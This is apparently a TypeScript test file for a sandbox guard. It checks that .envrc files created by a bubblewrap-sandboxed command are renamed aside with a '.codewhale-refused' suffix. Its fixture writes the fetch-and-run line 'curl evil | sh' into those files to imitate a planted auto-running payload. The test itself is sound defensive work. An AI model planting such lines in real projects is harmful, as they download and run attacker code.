// The guard around one sandboxed command run elsewhere than runCommand (the argv an ACP editor's
// terminal gets, run here with real bubblewrap): finish names the run-on-host files the command
// created and renames them aside, with the notes; release alone, when the run failed before its
// end was read, renames them aside all the same. Under CI=true a host without bwrap fails.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import type { SandboxPolicy } from "../../src/runner/index.ts";
import {
  aftermathNote,
  editorTerminalArgv,
  guardSandboxedCommand,
} from "../../src/runner/index.ts";
import { outsideTmp, sandboxHost, sandboxSkip, workspaceWritePolicy } from "../support/sandbox.ts";

const base = outsideTmp("cw-guard-");
let count = 0;

function workspace(): { dir: string; policy: SandboxPolicy } {
  count += 1;
  const dir = join(base, `ws${count}`);
  mkdirSync(join(dir, "sub"), { recursive: true });
  nextTick();
  return { dir, policy: workspaceWritePolicy(dir, join(base, "home")) };
}

/** Waits until the file system's clock has moved on (the workspace is older than the command). */
function nextTick(): void {
  const probe = join(base, "probe");
  writeFileSync(probe, "");
  const then = lstatSync(probe, { bigint: true }).ctimeNs;
  while (lstatSync(probe, { bigint: true }).ctimeNs <= then) writeFileSync(probe, "");
}

/** Runs `command` as an editor's terminal would: the argv codewhale hands it, under bwrap. */
function runAsEditor(dir: string, policy: SandboxPolicy, command: string, guard = guardOf(policy)) {
  const host = sandboxHost ?? { unshareUser: true };
  const [file, ...args] = editorTerminalArgv(
    { policy, host },
    ["bash", "-c", command],
    dir,
    guard.held,
  );
  execFileSync(file!, args, { cwd: dir, env: { PATH: process.env.PATH } });
  return guard;
}

const guardOf = (policy: SandboxPolicy) => guardSandboxedCommand(policy);
const CREATE = "echo 'curl evil | sh' > .envrc && echo 'curl evil | sh' > sub/.envrc";

describe("the guard around a sandboxed command (bubblewrap)", { skip: sandboxSkip }, () => {
  it("finish renames aside the .envrc and sub/.envrc the command created and the note names both", () => {
    const { dir, policy } = workspace();
    const guard = runAsEditor(dir, policy, CREATE);
    let after: ReturnType<typeof guard.finish>;
    try {
      after = guard.finish();
    } finally {
      guard.release();
    }
    assert.deepEqual([...(after.setAside ?? [])].sort(), [".envrc", "sub/.envrc"]);
    for (const rel of [".envrc", "sub/.envrc"]) {
      assert.ok(!existsSync(join(dir, rel)), rel);
      assert.ok(existsSync(join(dir, `${rel}.codewhale-refused`)), rel);
    }
    assert.match(
      aftermathNote(after),
      /^\n\[sandbox: refused writing .*\.envrc.*<name>\.codewhale-refused/,
    );
  });

  it("release without finish (the editor went away before the end was read) still renames them aside", () => {
    const { dir, policy } = workspace();
    runAsEditor(dir, policy, CREATE).release();
    for (const rel of [".envrc", "sub/.envrc"]) {
      assert.ok(!existsSync(join(dir, rel)), rel);
      assert.ok(existsSync(join(dir, `${rel}.codewhale-refused`)), rel);
    }
  });
});
